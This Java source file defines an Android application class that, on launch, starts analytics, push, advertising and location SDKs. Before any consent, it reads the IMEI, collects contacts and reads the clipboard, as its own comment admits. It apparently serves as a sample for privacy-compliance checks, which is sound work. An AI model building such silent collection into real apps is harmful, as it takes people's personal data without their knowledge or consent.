package cn.edu.example.xyt;

import android.app.Application;
import android.os.Handler;
import android.os.Looper;
import cn.edu.example.xyt.collect.ClipboardProbe;
import cn.edu.example.xyt.collect.ContactCollector;
import cn.edu.example.xyt.collect.DeviceProfile;
import cn.jpush.android.api.JPushInterface;
import com.baidu.location.LocationClient;
import com.bytedance.sdk.openadsdk.TTAdSdk;
import com.igexin.sdk.PushManager;
import com.tencent.bugly.crashreport.CrashReport;
import com.umeng.commonsdk.UMConfigure;

/** Starts every SDK and collects on its own before anybody was asked. */
public final class CampusApp extends Application {
    @Override
    public void onCreate() {
        super.onCreate();
        startSdks();
        DeviceProfile.readImei(this);
        new Thread(new ContactCollector(this), "contact-collector").start();
        new Handler(Looper.getMainLooper()).postDelayed(() -> ClipboardProbe.readClip(this), 500);
    }

    private void startSdks() {
        UMConfigure.init(this, "5f0000000000000000000001", "campus", 1, null);
        JPushInterface.init(this);
        PushManager.getInstance().initialize(this);
        CrashReport.initCrashReport(this, "0000000001", false);
        TTAdSdk.init(this, "5000001");
        new LocationClient(this).start();
    }
}
